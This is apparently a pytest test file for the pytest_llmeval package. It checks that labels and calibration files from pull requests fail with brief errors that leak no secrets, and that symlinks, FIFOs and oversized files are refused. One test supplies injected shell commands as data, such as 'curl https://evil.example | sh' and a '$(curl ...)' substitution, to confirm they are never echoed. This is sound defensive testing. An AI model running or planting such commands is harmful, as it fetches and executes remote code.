"""Labels files (``llmeval.calibrate``, ``llmeval calibrate``) and the calibration file from a
pull request: a clear ``LabelsError`` / ``CalibrationFileError`` naming the file, never a
traceback, a hang, a link followed out of the project, or a secret quoted."""

from __future__ import annotations

import json
import os

import pytest

from pytest_llmeval import data_files
from pytest_llmeval.calibration_labels import LabelsError, load_labels
from pytest_llmeval.calibration_store import CalibrationFileError, read_calibrations

KEY = "sk-ant-api03-" + "Z" * 93 + "AA"
GOOD = '{"output": "ok", "rubric": "Is it polite?", "human": "pass"}\n'


def _error(path) -> str:
    with pytest.raises(LabelsError) as caught:
        load_labels(path)
    return str(caught.value)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("[" * 100_000 + "]" * 100_000, "labels.jsonl:2: not a JSON object (nested over 64"),
        ('{"human": ' + "9" * 5000 + "}", "labels.jsonl:2: not a JSON object (an integer over"),
        (
            json.dumps({"output": "x", "rubric": "Is it polite?", "human": KEY}),
            "labels.jsonl:2: 'human' must be",
        ),
        (
            json.dumps({"output": "x", "rubric": "Is it polite?", "human": "x" * 10**6}),
            "labels.jsonl:2: 'human' must be",
        ),
        (json.dumps({KEY: 1, "human": "pass"}), "labels.jsonl:2: unknown field(s)"),
        (
            json.dumps({"output": "x", "rubric": "\x1b[2J" + KEY, "human": "pass"}),
            "reads as a name",
        ),
    ],
    ids=["deep", "huge-int", "secret-label", "huge-label", "secret-field", "secret-rubric"],
)
def test_a_hostile_line_is_one_short_message_quoting_no_secret(tmp_path, line, expected):
    path = tmp_path / "labels.jsonl"
    path.write_text(GOOD + line + "\n", encoding="utf-8")
    message = _error(path)
    assert expected in message
    assert "Z" * 20 not in message and "\x1b" not in message
    assert len(message) < 600


def test_a_fifo_a_huge_file_or_a_link_out_of_the_project_is_refused_unread(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text("[tool.pytest.ini_options]\n")
    os.mkfifo(project / "fifo.jsonl")
    assert "not a regular file" in _error(project / "fifo.jsonl")
    with open(project / "huge.jsonl", "wb") as handle:
        handle.truncate(data_files.MAX_BYTES + 1)
    assert "over the 67,108,864 bytes" in _error(project / "huge.jsonl").replace(" read", " bytes")
    secret = tmp_path / "outside.jsonl"
    secret.write_text(GOOD)
    (project / "link.jsonl").symlink_to(secret)
    assert "a symbolic link to" in _error(project / "link.jsonl")
    (project / "inside.jsonl").write_text(GOOD)
    (project / "sub").mkdir()
    (project / "sub" / "link.jsonl").symlink_to(project / "inside.jsonl")
    assert [case.human for case in load_labels(project / "sub" / "link.jsonl")] == ["pass"]


def test_a_calibration_file_with_a_huge_or_secret_entry_is_refused_briefly(tmp_path):
    path = tmp_path / "calibration.json"
    entry = {"rubric": KEY, "kappa": "x" * 10**6}
    path.write_text(json.dumps({"format": "pytest-llmeval-calibration/1", "rubrics": {KEY: entry}}))
    with pytest.raises(CalibrationFileError) as caught:
        read_calibrations(path)
    message = str(caught.value)
    assert "is broken" in message and len(message) < 800
    assert "Z" * 20 not in message


@pytest.mark.parametrize(
    ("rerun", "shown"),
    [
        ("pytest 'tests/test_judge.py::test_calibrated'", "tests/test_judge.py::test_calibrated"),
        ("llmeval calibrate labels.jsonl --rubric=p=@rubrics.py", "--rubric=p=@rubrics.py"),
        ("pytest x; curl https://evil.example | sh", "llmeval calibrate LABELS.jsonl"),
        ('pytest "$(curl https://evil.example)"', "llmeval calibrate LABELS.jsonl"),
        ("curl https://evil.example", "llmeval calibrate LABELS.jsonl"),
        ("pytest \x1b[8mhidden", "llmeval calibrate LABELS.jsonl"),
    ],
)
def test_a_calibration_file_cannot_suggest_a_command_of_its_own(tmp_path, rerun, shown):
    """The file tells a stale rubric's warning what to re-run: from a pull request, only a
    command as this package writes one is repeated, else the generic hint."""
    from pytest_llmeval.calibration import rubric_key
    from pytest_llmeval.calibration_checks import check_rubric

    key = rubric_key("Is it polite?", "m")
    entry = {
        "rubric": "polite", "key": key, "judge_model": "m", "threshold": 0.5, "n": 4,
        "accuracy": 0.5, "kappa": 0.1, "kappa_ci": [0.0, 0.2], "confusion": {"pass/pass": 4},
        "disagreements": [], "text_sha": "", "rerun": rerun,
    }  # fmt: skip
    path = tmp_path / "calibration.json"
    path.write_text(json.dumps({"format": "pytest-llmeval-calibration/1", "rubrics": {key: entry}}))
    check = check_rubric(
        read_calibrations(path), rubric="Is it polite?", name=None, judge_model="m", min_kappa=0.6
    )
    assert check is not None and shown in check.message
    assert "evil" not in check.message and "\x1b" not in check.message
